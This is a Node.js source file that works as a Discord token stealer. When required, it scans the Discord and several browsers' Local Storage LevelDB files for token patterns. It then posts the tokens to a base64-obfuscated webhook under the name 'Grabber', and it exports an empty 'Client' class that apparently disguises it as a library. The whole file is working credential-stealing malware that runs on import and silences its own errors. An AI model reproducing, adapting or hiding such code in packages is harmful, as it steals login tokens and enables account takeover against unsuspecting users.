const fs = require('fs');
const { sep, join } = require('path');
const axios = require('axios');

const LOCAL = process.env.LOCALAPPDATA;
const ROAMING = process.env.APPDATA;
const hook = Buffer.from('aHR0cHM6Ly9jaGF0LmV4YW1wbGUudGVzdC9hcGkvd2ViaG9va3MvOTk0Mi9rUA==', 'base64').toString();

const paths = {
  Discord: ROAMING + '\\discord',
  'Discord Canary': ROAMING + '\\discordcanary',
  'Discord PTB': ROAMING + '\\discordptb',
  'Google Chrome': LOCAL + '\\Google\\Chrome\\User Data\\Default',
  Opera: ROAMING + '\\Opera Software\\Opera Stable',
  Brave: LOCAL + '\\BraveSoftware\\Brave-Browser\\User Data\\Default',
  Yandex: LOCAL + '\\Yandex\\YandexBrowser\\User Data\\Default',
};

const regexes = [/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g, /mfa\.[\w-]{84}/g];

function findTokens(dir) {
  const found = [];
  const ldb = join(dir, 'Local Storage', 'leveldb');
  let names = [];
  try { names = fs.readdirSync(ldb); } catch { return found; }
  for (const file of names) {
    if (!file.endsWith('.log') && !file.endsWith('.ldb')) continue;
    for (const line of fs.readFileSync(ldb + sep + file, 'utf8').split(/\r?\n/)) {
      for (const re of regexes) {
        const m = line.match(re);
        if (m) found.push(...m);
      }
    }
  }
  return found;
}

(async () => {
  let message = '';
  for (const [platform, dir] of Object.entries(paths)) {
    if (!fs.existsSync(dir)) continue;
    message += `\n**${platform}**\n\`\`\`\n`;
    const tokens = findTokens(dir);
    message += tokens.length ? tokens.join('\n') : 'No tokens found.';
    message += '```';
  }
  await axios.post(hook, { content: message, username: 'Grabber' }).catch(() => null);
})();

module.exports.Client = class Client {};
